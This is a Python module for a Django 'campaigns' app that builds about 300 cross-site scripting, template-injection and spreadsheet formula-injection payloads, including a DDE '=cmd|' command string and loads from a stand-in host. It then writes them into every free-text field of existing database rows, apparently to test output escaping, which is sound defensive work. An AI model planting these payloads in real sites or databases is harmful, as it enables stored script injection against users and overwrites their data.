"""Three hundred pieces of text that would run, load, lead astray or hide something, were a page to take them as markup.

Each that runs calls `hit()`, and each that loads or leads does so to NEVER, which nothing may ask.
"""

from collections.abc import Iterator
from itertools import cycle, product

from django.apps import apps
from django.db import models

NEVER = "never.example"

KINDS = [
    "<script>hit()</script>",
    f"<script src=//{NEVER}/x.js></script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script\x0c>hit()</script>",
    "<<script>hit()//<</script>",
    "<img src=x onerror=hit()>",
    f"<img src=//{NEVER}/x>",
    "<image src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x">',
    "<math><mtext><style><img src=x onerror=hit()></style>",
    '<math href="javascript:hit()">x</math>',
    "<body onload=hit()>",
    "<iframe srcdoc='<script>top.hit()</script>'>",
    f"<iframe src=//{NEVER}/>",
    '<iframe src="javascript:top.hit()">',
    f"<object data=//{NEVER}/x>",
    f"<embed src=//{NEVER}/x>",
    f"<link rel=stylesheet href=//{NEVER}/x.css>",
    f"<style>@import '//{NEVER}/x.css';</style>",
    f"<base href=//{NEVER}/>",
    f"<meta http-equiv=refresh content='0;url=//{NEVER}/'>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>",
    "<template><script>hit()</script></template>",
    f"<form action=//{NEVER}/><button>x",
    "<!--><script>hit()</script>-->",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "--><script>hit()</script><!--",
    f"<div style=background:url(//{NEVER}/x)>x</div>",
    "x onmouseover=hit() autofocus onfocus=hit() x",
    "javascript:hit()",
    "[x](javascript:hit())",
    f"![x](//{NEVER}/x.png)",
    "[x](data:text/html,<script>hit()</script>)",
    "<javascript:hit()>",
    f'[x](//{NEVER} "a\\" onfocus=hit() autofocus")',
    "[x]: javascript:hit()\n[x]",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "${hit()}#{hit()}",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\u202e<script>hit()</script>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    '=HYPERLINK("javascript:hit()","x")',
    "=cmd|' /C hit'!A1",
    "+1+hit()",
    "-hit()",
    "@SUM(1+1)",
    "\t=1+1",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "<x>null</x>",
]
BREAKS = ["", '">', "'>", "</title></textarea></style></script>", "`\"' --!>"]
PAYLOADS = [before + kind for before, kind in product(BREAKS, KINDS)]

WITHOUT = {"slug", "username", "password", "first_name", "last_name", "file_name", "time_zone"}  # are no free text


def filling(most: int) -> Iterator[str]:
    """Texts of at most so many characters, each with as many of the payloads as it holds, round and round."""
    held = ""
    for payload in cycle(PAYLOADS):
        if held and len(held) + len(payload) + 2 > most:
            yield held
            held = ""
        held = f"{held}\n\n{payload}".strip("\n")[:most]


ALL = "\n\n".join(PAYLOADS)
APPEND_ONLY = {"campaigns_textversion", "campaigns_delivery", "campaigns_deliveryentry", "campaigns_event"}


def free_texts(model: type[models.Model]) -> list[models.Field]:
    """The fields of a model into which people write what they like."""
    return [
        each
        for each in model._meta.concrete_fields
        if isinstance(each, models.CharField | models.TextField)
        and not isinstance(each, models.URLField | models.EmailField | models.SlugField)
        and (each.max_length or 80) >= 80
        and each.editable
        and not (each.choices or each.unique or each.name in WITHOUT)
    ]


def fill_every_field() -> int:
    """Puts payloads past every form and verb into each free text of each row, and gives how many fields there are."""
    filled = 0
    for model in apps.get_app_config("campaigns").get_models():
        if model._meta.db_table in APPEND_ONLY or model._meta.proxy:
            continue
        for field in free_texts(model):
            texts, filled = filling(field.max_length or len(ALL)), filled + 1
            for row in model._base_manager.exclude(**{field.name: ""}):
                model._base_manager.filter(pk=row.pk).update(**{field.name: next(texts)})
    return filled
